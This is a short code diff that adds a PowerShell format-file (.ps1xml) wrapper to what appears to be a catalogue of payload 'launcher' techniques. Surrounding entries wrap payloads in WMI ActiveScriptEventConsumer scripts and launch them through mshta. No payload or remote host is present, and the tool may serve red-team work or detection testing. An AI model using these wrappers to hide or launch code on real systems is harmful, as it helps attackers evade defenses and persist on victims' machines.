@@ -142,6 +142,13 @@ export const launchers: readonly Technique[] = [
       `instance of ActiveScriptEventConsumer as $C\r\n{\r\n  Name = "Marker";\r\n  ScriptingEngine = "VBScript";\r\n  ScriptText = "${payload.replace(/\\/g, '\\\\').replace(/"/g, '\\"').replace(/\r/g, '\\r').replace(/\n/g, '\\n')}";\r\n};`,
   },
   {
+    name: 'PowerShell format file (.ps1xml)',
+    hides: 'powershell',
+    gives: 'powershell',
+    wrap: (payload) =>
+      `<?xml version="1.0"?><Configuration><ViewDefinitions><View><ScriptBlock>${payload.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')}</ScriptBlock></View></ViewDefinitions></Configuration>`,
+  },
+  {
     name: 'PowerShell starts mshta',
     hides: 'vbscript',
     gives: 'powershell',
